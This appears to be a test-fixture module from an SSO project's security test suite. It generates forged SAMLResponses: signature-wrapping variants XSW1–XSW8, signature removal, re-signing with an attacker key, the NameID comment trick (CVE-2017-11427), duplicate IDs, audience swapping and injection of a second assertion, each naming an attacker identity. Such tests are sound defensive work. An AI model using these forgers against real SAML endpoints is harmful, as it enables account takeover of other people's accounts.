import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { generateSpKeyPair } from '../../src/sso/saml/certificates.ts';

/**
 * Tampered SAMLResponses for the attack suite: each function takes a signed
 * response's XML and returns the attacker's version. The XML Signature
 * Wrapping variants follow SAMLRaider's catalogue (XSW1–XSW8: where the
 * attacker hides the signed original so the signature still verifies while a
 * naive reader finds the forged copy); the forged copy always names
 * ATTACKER_NAME_ID, so accepting any of them would be an account takeover.
 */

export const ATTACKER_NAME_ID = 'attacker@evil.example';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';

/** The XML inside a base64 SAMLResponse. */
export function decodeSamlResponse(samlResponse: string): string {
  return Buffer.from(samlResponse, 'base64').toString('utf8');
}

/** A SAMLResponse (base64) for an XML string. */
export function encodeSamlResponse(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function serialize(doc: Document): string {
  return new XMLSerializer().serializeToString(doc);
}

function children(el: Element, localName: string): Element[] {
  const out: Element[] = [];
  for (let n = el.firstChild; n; n = n.nextSibling) if (n.nodeType === 1 && (n as Element).localName === localName) out.push(n as Element);
  return out;
}

function child(el: Element, localName: string, what: string): Element {
  const found = children(el, localName)[0];
  if (!found) throw new Error(`the fixture has no ${what}`);
  return found;
}

/** The Response, its (first) assertion, and the assertion's and response's own signatures. */
function parts(xml: string) {
  const doc = parse(xml);
  const response = doc.documentElement!;
  const assertion = child(response, 'Assertion', 'plaintext Assertion');
  return { doc, response, assertion, responseSignature: children(response, 'Signature')[0] ?? null, assertionSignature: children(assertion, 'Signature')[0] ?? null };
}

/** A deep copy of an element without its own enveloped Signature: the "unsigned original" the wrapping hides. */
function unsignedCopy(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  for (const sig of children(copy, 'Signature')) copy.removeChild(sig);
  return copy;
}

/** Rewrites the NameID directly under this assertion's Subject. */
function setNameId(assertion: Element, value: string): void {
  const nameId = child(child(assertion, 'Subject', 'Subject'), 'NameID', 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(nameId.ownerDocument!.createTextNode(value));
}

function requireSignature(sig: Element | null, what: string): Element {
  if (!sig) throw new Error(`this attack needs a signed ${what}`);
  return sig;
}

/** XSW1: the Response's signed original moves inside its own Signature; the outer Response (new ID) is the attacker's. */
export function xsw1(xml: string): string {
  const { doc, response, assertion, responseSignature } = parts(xml);
  const sig = requireSignature(responseSignature, 'Response');
  sig.appendChild(unsignedCopy(response));
  response.setAttribute('ID', '_evil_response_ID');
  setNameId(assertion, ATTACKER_NAME_ID);
  return serialize(doc);
}

/** XSW2: as XSW1, but the signed original sits before the (now detached) Signature, as a sibling. */
export function xsw2(xml: string): string {
  const { doc, response, assertion, responseSignature } = parts(xml);
  const sig = requireSignature(responseSignature, 'Response');
  response.insertBefore(unsignedCopy(response), sig);
  response.setAttribute('ID', '_evil_response_ID');
  setNameId(assertion, ATTACKER_NAME_ID);
  return serialize(doc);
}

/** XSW3: an unsigned forged assertion (new ID) is inserted before the signed one. */
export function xsw3(xml: string): string {
  const { doc, response, assertion, assertionSignature } = parts(xml);
  requireSignature(assertionSignature, 'Assertion');
  const evil = unsignedCopy(assertion);
  evil.setAttribute('ID', '_evil_assertion_ID');
  setNameId(evil, ATTACKER_NAME_ID);
  response.insertBefore(evil, assertion);
  return serialize(doc);
}

/** XSW4: the forged assertion takes the signed one's place and wraps it as a child. */
export function xsw4(xml: string): string {
  const { doc, response, assertion, assertionSignature } = parts(xml);
  requireSignature(assertionSignature, 'Assertion');
  const evil = unsignedCopy(assertion);
  evil.setAttribute('ID', '_evil_assertion_ID');
  setNameId(evil, ATTACKER_NAME_ID);
  response.replaceChild(evil, assertion);
  evil.appendChild(assertion);
  return serialize(doc);
}

/** XSW5: the signed assertion is altered in place (new ID, keeps its Signature); an unsigned copy of the original goes to the end of the Response. */
export function xsw5(xml: string): string {
  const { doc, response, assertion, assertionSignature } = parts(xml);
  requireSignature(assertionSignature, 'Assertion');
  response.appendChild(unsignedCopy(assertion));
  assertion.setAttribute('ID', '_evil_assertion_ID');
  setNameId(assertion, ATTACKER_NAME_ID);
  return serialize(doc);
}

/** XSW6: as XSW5, but the unsigned original goes inside the altered assertion's Signature. */
export function xsw6(xml: string): string {
  const { doc, assertion, assertionSignature } = parts(xml);
  const sig = requireSignature(assertionSignature, 'Assertion');
  sig.appendChild(unsignedCopy(assertion));
  assertion.setAttribute('ID', '_evil_assertion_ID');
  setNameId(assertion, ATTACKER_NAME_ID);
  return serialize(doc);
}

/** XSW7: an Extensions element before the signed assertion carries an unsigned forged copy (same ID). */
export function xsw7(xml: string): string {
  const { doc, response, assertion, assertionSignature } = parts(xml);
  requireSignature(assertionSignature, 'Assertion');
  const extensions = doc.createElementNS(PROTOCOL, 'samlp:Extensions');
  const evil = unsignedCopy(assertion);
  setNameId(evil, ATTACKER_NAME_ID);
  extensions.appendChild(evil);
  response.insertBefore(extensions, assertion);
  return serialize(doc);
}

/** XSW8: as XSW6, but the unsigned original is wrapped in a ds:Object inside the Signature. */
export function xsw8(xml: string): string {
  const { doc, assertion, assertionSignature } = parts(xml);
  const sig = requireSignature(assertionSignature, 'Assertion');
  const object = doc.createElementNS(DSIG, 'ds:Object');
  object.appendChild(unsignedCopy(assertion));
  sig.appendChild(object);
  assertion.setAttribute('ID', '_evil_assertion_ID');
  setNameId(assertion, ATTACKER_NAME_ID);
  return serialize(doc);
}

/** Every ds:Signature removed (and the NameID forged, since nothing checks it any more). */
export function removeSignatures(xml: string): string {
  const { doc, assertion } = parts(xml);
  const signatures = Array.from(doc.getElementsByTagNameNS(DSIG, 'Signature'));
  for (const sig of signatures) sig.parentNode!.removeChild(sig);
  setNameId(assertion, ATTACKER_NAME_ID);
  return serialize(doc);
}

/** The assertion forged and re-signed with a fresh attacker key, whose certificate rides along in KeyInfo. */
export async function resignWithAttackerKey(xml: string): Promise<string> {
  const attacker = await generateSpKeyPair('attacker', new Date());
  const stripped = parse(removeSignatures(xml));
  const sig = new SignedXml({
    privateKey: attacker.privateKeyPem,
    publicCert: attacker.certificatePem,
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  sig.addReference({
    xpath: "/*[local-name(.)='Response']/*[local-name(.)='Assertion']",
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  sig.computeSignature(serialize(stripped), {
    prefix: 'ds',
    location: { reference: "/*[local-name(.)='Response']/*[local-name(.)='Assertion']/*[local-name(.)='Issuer']", action: 'after' },
  });
  return sig.getSignedXml();
}

/**
 * The NameID comment trick (CVE-2017-11427 and kin): an empty comment inserted
 * into a signed NameID before `at`. Canonicalization drops comments, so the
 * signature still verifies; a reader that takes the first text node gets the
 * truncated value (`admin@victim.com` out of `admin@victim.com<!---->.evil.com`).
 */
export function commentInNameId(xml: string, at: string): string {
  const { doc, assertion } = parts(xml);
  const nameId = child(child(assertion, 'Subject', 'Subject'), 'NameID', 'NameID');
  const text = nameId.textContent ?? '';
  const cut = text.indexOf(at);
  if (cut <= 0) throw new Error(`"${at}" is not inside the NameID "${text}"`);
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(text.slice(0, cut)));
  nameId.appendChild(doc.createComment(''));
  nameId.appendChild(doc.createTextNode(text.slice(cut)));
  return serialize(doc);
}

/** A forged unsigned copy of the signed assertion, with the same ID, placed before it. */
export function duplicateIds(xml: string): string {
  const { doc, response, assertion, assertionSignature } = parts(xml);
  requireSignature(assertionSignature, 'Assertion');
  const evil = unsignedCopy(assertion);
  setNameId(evil, ATTACKER_NAME_ID);
  response.insertBefore(evil, assertion);
  return serialize(doc);
}

/** The signed assertion's Audience rewritten (to smuggle an assertion issued for another SP past the check). */
export function swapAudience(xml: string, audience: string): string {
  const { doc, assertion } = parts(xml);
  const el = child(child(child(assertion, 'Conditions', 'Conditions'), 'AudienceRestriction', 'AudienceRestriction'), 'Audience', 'Audience');
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(doc.createTextNode(audience));
  return serialize(doc);
}

/** A second, genuinely signed assertion (taken from another response of the same IdP) added after the first. */
export function twoAssertions(xml: string, otherXml: string): string {
  const { doc, response, assertion } = parts(xml);
  const other = parts(otherXml).assertion;
  response.insertBefore(doc.importNode(other, true), assertion.nextSibling);
  return serialize(doc);
}
